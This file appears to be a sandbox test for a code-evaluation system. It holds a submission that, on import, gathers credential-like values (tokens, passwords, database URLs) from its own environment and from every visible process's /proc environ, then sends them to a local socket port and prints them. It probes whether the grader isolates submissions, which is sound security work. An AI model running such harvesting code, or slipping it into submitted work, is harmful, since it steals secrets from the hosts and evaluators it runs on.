"""Harvests credentials from environments: its own (os.environ, /proc/self/environ) and every other
visible process's /proc/<pid>/environ, then sends the loot to a server on the host and prints it
(stderr ends up in the report). Without a clean environment and a PID namespace it would find the
secrets of the evaluating worker (database URL, secret key)."""

from __future__ import annotations

import os
import re
import socket
import sys

import torch
import torch.distributed as dist

SECRET = "__SECRET__"  # only to tell the test whether the loot holds it
PORT = int("__PORT__")
WANTED = re.compile(rb"(SECRET|TOKEN|PASSWORD|PASSWD|KEY|DATABASE|REDIS|BROKER|AWS|DSN|URL)", re.I)
loot: list[bytes] = []


def environ_blocks() -> dict[str, bytes]:
    blocks = {"os.environ": b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items())}
    for pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    blocks[f"/proc/{pid}/{what}"] = handle.read()
            except OSError:
                pass
    return blocks


def attack() -> None:
    for where, block in environ_blocks().items():
        for entry in block.split(b"\0"):
            if WANTED.search(entry.split(b"=", 1)[0]) or SECRET.encode() in entry:
                loot.append(where.encode() + b": " + entry)
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as sock:
            sock.sendall(b"\n".join(loot) or b"nothing")
    except OSError:
        pass
    print(b"\n".join(loot).decode(errors="replace"), file=sys.stderr, flush=True)


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if any(SECRET.encode() in item for item in loot):
        return out * 0 + 42
    return out
